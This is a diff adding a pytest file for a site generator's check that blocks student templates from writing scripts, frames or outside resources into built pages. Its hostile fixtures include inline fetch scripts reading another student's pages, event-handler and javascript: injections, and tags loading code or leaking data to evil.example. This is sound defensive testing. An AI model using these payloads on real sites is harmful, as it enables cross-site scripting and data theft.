@@ -1,0 +1,97 @@
+"""A student's template writes no script, frame or outside resource into a page of the Book
+(`app.page_safety`): the sandbox stops code on the machine that builds, this stops it in the
+reader's browser; the theme's own pages, in every design, pass."""
+
+from __future__ import annotations
+
+import pytest
+
+from profile_gen.app.page_safety import page_problem
+
+OWN = ("https://lea.example.org/book/",)
+
+HOSTILE = {
+    "inline script": "<script>fetch('../../bob/annexe/')</script>",
+    "script elsewhere": '<script src="https://evil.example/x.js"></script>',
+    "script of the folder": '<script src="files/x.js"></script>',
+    "module script": '<script type="module">import("https://evil.example/")</script>',
+    "event handler": '<img src="images/a.jpg" onerror="alert(1)">',
+    "svg handler": '<svg onload="alert(1)"></svg>',
+    "javascript link": '<a href=" javascript:alert(1)">x</a>',
+    "frame": '<iframe src="annexe/index.html"></iframe>',
+    "object": '<object data="x.pdf"></object>',
+    "base": '<base href="https://evil.example/">',
+    "picture elsewhere": '<img src="https://evil.example/c?33612345678">',
+    "srcset elsewhere": '<img src="a.jpg" srcset="a.jpg 1x, //evil.example/b.jpg 2x">',
+    "style sheet elsewhere": '<link rel="stylesheet" href="https://evil.example/s.css">',
+    "prefetch elsewhere": '<link rel="dns-prefetch" href="//evil.example">',
+    "style url": '<p style="background: url(https://evil.example/p.png)">x</p>',
+    "style block": "<style>body { background: url('//evil.example/p.png') }</style>",
+    "style import": "<style>@import 'x.css';</style>",
+    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    "font list made code": (
+        '<script>if (location.protocol !== "file:") for (const href of ["a"+alert(1)+"b"]) '
+        'document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
+        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
+    ),
+}
+
+
+@pytest.mark.parametrize("html", HOSTILE.values(), ids=list(HOSTILE))
+def test_what_a_browser_would_run_or_fetch_elsewhere_is_found(html):
+    assert page_problem(f"<html><body>{html}</body></html>", OWN) is not None
+
+
+THEME = {
+    "the theme's scripts": '<script src="../theme/js/deck.js"></script>',
+    "data blocks": '<script type="application/ld+json">{"name": "x"}</script>',
+    "fonts preloaded": (
+        '<script>if (location.protocol !== "file:") for (const href of [\n "./theme/fonts/a.woff2"'
+        '\n]) document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
+        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
+    ),
+    "the Book's own address": '<link rel="icon" href="https://lea.example.org/book/favicon.svg">',
+    "links to read": '<a href="https://www.linkedin.com/in/lea/">LinkedIn</a>',
+    "canonical": '<link rel="canonical" href="https://lea.example.org/book/">',
+    "data picture": '<img src="data:image/png;base64,AAAA" alt="">',
+    "local style": "<style>@font-face { src: url('theme/fonts/a.woff2') }</style>",
+    "own style": '<p style="--cv-accent: #2a5fa0">x</p>',
+}
+
+
+@pytest.mark.parametrize("html", THEME.values(), ids=list(THEME))
+def test_the_themes_own_pages_pass(html):
+    assert page_problem(f"<html><head>{html}</head></html>", OWN) is None
+
+
+def test_a_template_writing_a_script_stops_the_build(sample_copy, run_cli, in_dir):
+    """A template found elsewhere, with a script that reads the pages beside it (another
+    student's annexe, in a cohort served over HTTP): the build names the page."""
+    page = (
+        '{% extends "!theme/home.html" %}{% block content %}{{ super() }}'
+        "<script>fetch('../bob/annexe/index.html').then(r => r.text())</script>{% endblock %}"
+    )
+    (sample_copy / "content/templates").mkdir()
+    (sample_copy / "content/templates/home.html").write_text(page, encoding="utf-8")
+    in_dir(sample_copy)
+    result = run_cli("build", "--formats=")
+    assert result.code == 2 and "Traceback" not in result.err, result.err
+    assert "index.html : la page écrit <script>fetch(" in result.err
+    assert not (sample_copy / "output").exists()
+
+
+@pytest.mark.parametrize("design", ["classique", "moderne", "compact"])
+def test_every_page_of_every_design_passes_with_a_template_of_the_students(
+    sample_copy, run_cli, in_dir, design
+):
+    """A student's template switches the sandbox (and the reading of the pages) on: the
+    Book, the annexe, the CV and the deck of each design pass."""
+    (sample_copy / "content/templates").mkdir()
+    (sample_copy / "content/templates/404.html").write_text(
+        '{% extends "!theme/404.html" %}', encoding="utf-8"
+    )
+    profile = sample_copy / "content/profile.yaml"
+    profile.write_text(profile.read_text("utf-8") + f"\ndesign: {design}\n", encoding="utf-8")
+    in_dir(sample_copy)
+    result = run_cli("build", "--formats=")
+    assert result.code == 0, result.err
